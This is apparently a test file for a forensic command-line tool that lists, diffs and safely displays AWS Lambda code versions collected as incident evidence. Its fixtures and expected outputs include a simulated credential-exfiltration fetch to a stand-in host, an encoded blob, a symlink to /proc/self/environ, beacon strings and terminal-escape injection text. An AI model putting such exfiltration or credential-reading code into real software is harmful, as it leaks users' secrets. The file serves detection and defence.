import {chmod, writeFile} from 'node:fs/promises'
import path from 'node:path'
import {describe, expect, it} from 'vitest'
import type {z} from 'zod'
import type {codeDiffResult, codeLsResult, codeShowResult} from '../../../src/cli/results/code.js'
import {coroner, type Envelope} from '../../support/cli.js'
import {codeScenario, fnArn} from '../../support/code-fixtures.js'
import {writeCase, type ArtifactSpec} from '../../support/evidence-case.js'

type CodeLsResult = z.output<typeof codeLsResult>
type CodeDiffResult = z.output<typeof codeDiffResult>
type CodeShowResult = z.output<typeof codeShowResult>
import {tempDir} from '../../support/temp.js'
import {SYMLINK, buildZip} from '../../support/zip-builder.js'

const SECRET = 'hunter2-db-password-9f3a'
const json = <T>(stdout: string): Envelope<T> => JSON.parse(stdout) as Envelope<T>

async function codeCase(extra: ArtifactSpec[] = []): Promise<{store: string; db: string; keys: string[]; args: string[]}> {
  const dir = await tempDir()
  const store = path.join(dir, 'store')
  const {records} = await writeCase(store, 'INC-CODE', [...codeScenario().specs, ...extra])
  const db = path.join(dir, 'case.duckdb')
  return {store, db, keys: records.map((r) => r.key), args: ['--case', 'INC-CODE', '--store', store, '--db', db]}
}

/** A third function whose one version holds a binary, a symlink and a file that tries to drive the terminal. */
const oddities = (): ArtifactSpec => {
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(64), Buffer.from('/tmp/.x-stage2-beacon\0connect-back')])
  const zip = buildZip([
    {name: 'bin/helper', data: elf, mode: 0o100755},
    {name: 'creds', data: '/proc/self/environ', mode: SYMLINK},
    {name: 'notes.txt', data: 'ok\n\u001b]0;pwned\u0007\u001b[2Jcleared \u202Etxt.exe\n'},
  ])
  return {segments: ['lambda', 'us-east-1', 'odd-fn', 'versions', '1', 'code.zip'], kind: 'lambda.code', body: zip, contentType: 'application/zip', source: `${fnArn('odd-fn')}:1`, attributes: {functionName: 'odd-fn', version: '1', verified: true}}
}

describe('coroner code ls / diff / show', () => {
  it('code ls lists the versions, then the files of one version', async () => {
    const c = await codeCase()
    const versions = await coroner(['code', 'ls', '--function', 'orders-api', ...c.args, '--json'])
    expect(versions.error).toBeUndefined()
    const v = json<CodeLsResult>(versions.stdout).result
    expect(v.packages.map((p) => [p.version, p.previousVersion, p.status, p.entries, p.indicators])).toEqual([['1', null, 'read', 6, 2], ['2', '1', 'read', 6, 7], ['$LATEST', '2', 'read', 6, 7]])
    const files = await coroner(['code', 'ls', '--function', 'orders-api', '--version', '2', ...c.args])
    expect(files.stdout).toMatch(/index\.js\s+file\s+\d+\s+-rw-r--r--\s+2026-11-20T10:00:00Z\s+[0-9a-f]{64}\s+text\s+javascript\s+5/)
    expect(files.stdout).toContain('6 entries of version 2')
    const unknown = await coroner(['code', 'ls', '--function', 'orders-api', '--version', '7', ...c.args, '--json'])
    expect(unknown.error?.oclif?.exit).toBe(2)
    expect(json<never>(unknown.stdout).error?.message).toMatch(/no collected package for version 7; it has 1, 2, \$LATEST/)
  })

  it('code diff names exactly the changes, the new indicators first, with unified diffs and secrets redacted', async () => {
    const c = await codeCase()
    const out = await coroner(['code', 'diff', '--function', 'orders-api', '--from', '1', '--to', '2', ...c.args, '--json'])
    expect(out.error).toBeUndefined()
    const d = json<CodeDiffResult>(out.stdout).result
    expect(d.newIndicators.map((i) => [i.path, i.line, i.kind, i.value.slice(0, 40)])).toEqual([
      ['index.js', 2, 'base64-blob', 'aW1wb3J0IG9zLHVybGxpYi5yZXF1ZXN0O3VybGxp'],
      ['index.js', 5, 'url', 'https://telemetry.evil-cdn.ru/v1/collect'],
      ['index.js', 5, 'credential-env', 'AWS_ACCESS_KEY_ID'],
      ['index.js', 5, 'credential-env', 'AWS_SECRET_ACCESS_KEY'],
      ['index.js', 5, 'credential-env', 'AWS_SESSION_TOKEN'],
    ])
    expect(d.files.added).toEqual([])
    expect(d.files.removed).toEqual([])
    expect(d.files.changed.map((f) => f.path)).toEqual(['index.js', 'node_modules/left-pad/index.js', 'node_modules/left-pad/package.json', 'package.json'])
    expect(d.unchanged).toBe(2)
    const patch = d.patches.find((p) => p.path === 'node_modules/left-pad/package.json')!.patch!
    expect(patch).toContain('-{"name": "left-pad", "version": "1.3.0"}\n+{"name": "left-pad", "version": "1.3.1"}')
    const index = d.patches.find((p) => p.path === 'index.js')!.patch!
    expect(index).toContain("+  await fetch('https://telemetry.evil-cdn.ru/v1/collect'")
    expect(index).toContain("+const dbPass = '[redacted:DB_PASSWORD]'")
    expect(out.stdout).not.toContain(SECRET)

    const human = await coroner(['code', 'diff', '--function', 'orders-api', '--from', '1', '--to', '2', ...c.args])
    const text = human.stdout
    expect(text.indexOf('New indicators in version 2 (5)')).toBeLessThan(text.indexOf('Files: 0 added, 0 removed, 4 changed, 2 unchanged'))
    expect(text).toContain('--- a/index.js\tversion 1')
    const shown = await coroner(['code', 'diff', '--function', 'orders-api', '--from', '1', '--to', '2', ...c.args, '--show-secrets'])
    expect(shown.stdout).toContain(SECRET)
    const none = await coroner(['code', 'diff', '--function', 'orders-api', '--from', '2', '--to', '$LATEST', ...c.args, '--json'])
    expect(json<CodeDiffResult>(none.stdout).result).toMatchObject({newIndicators: [], files: {added: [], removed: [], changed: []}, unchanged: 6, patches: []})
  })

  it('code show prints a file from verified evidence, escaped; a binary as a summary; a symlink as its target', async () => {
    const c = await codeCase([oddities()])
    const js = await coroner(['code', 'show', '--function', 'orders-api', '--version', '2', 'lib/db.js', ...c.args])
    expect(js.stdout).toBe("const {execFile} = require('child_process')\nconst api = 'https://api.payments.example.com/v1'\nmodule.exports = {execFile, api}\n")
    expect(js.stderr).toMatch(/lib\/db\.js: version 2, 127 bytes, SHA-256 [0-9a-f]{64}, from cases\/INC-CODE\/.*code\.zip \(SHA-256 [0-9a-f]{64}, verified\)/)

    const notes = await coroner(['code', 'show', '--function', 'odd-fn', '--version', '1', 'notes.txt', ...c.args])
    expect(notes.stdout).toBe('ok\n\\u001b]0;pwned\\u0007\\u001b[2Jcleared \\u202etxt.exe\n')
    const bin = await coroner(['code', 'show', '--function', 'odd-fn', '--version', '1', 'bin/helper', ...c.args, '--json'])
    const b = json<CodeShowResult>(bin.stdout).result
    expect(b).toMatchObject({content: 'binary', text: null, binary: {kind: 'ELF executable or shared object', strings: ['/tmp/.x-stage2-beacon', 'connect-back']}})
    expect(bin.stdout).not.toContain('\\u0000\\u0000')
    const link = await coroner(['code', 'show', '--function', 'odd-fn', '--version', '1', 'creds', ...c.args])
    expect(link.stdout).toBe('symlink → /proc/self/environ (not followed)\n')
    const missing = await coroner(['code', 'show', '--function', 'odd-fn', '--version', '1', 'nope.js', ...c.args])
    expect(missing.error?.oclif?.exit).toBe(2)
  })

  it('code show refuses a package altered after it was loaded', async () => {
    const c = await codeCase()
    await coroner(['load', ...c.args])
    const key = c.keys.find((k) => k.includes('orders-api/versions/%24LATEST/code.zip'))!
    const file = path.join(c.store, ...key.split('/'))
    await chmod(file, 0o644)
    await writeFile(file, buildZip([{name: 'lib/db.js', data: 'harmless\n'}]))
    const out = await coroner(['code', 'show', '--function', 'orders-api', '--version', '2', 'lib/db.js', ...c.args, '--json'])
    expect(out.error?.oclif?.exit).toBe(3)
    expect(json<never>(out.stdout).error).toMatchObject({code: 'evidence-altered', message: expect.stringContaining(key)})
  })
})
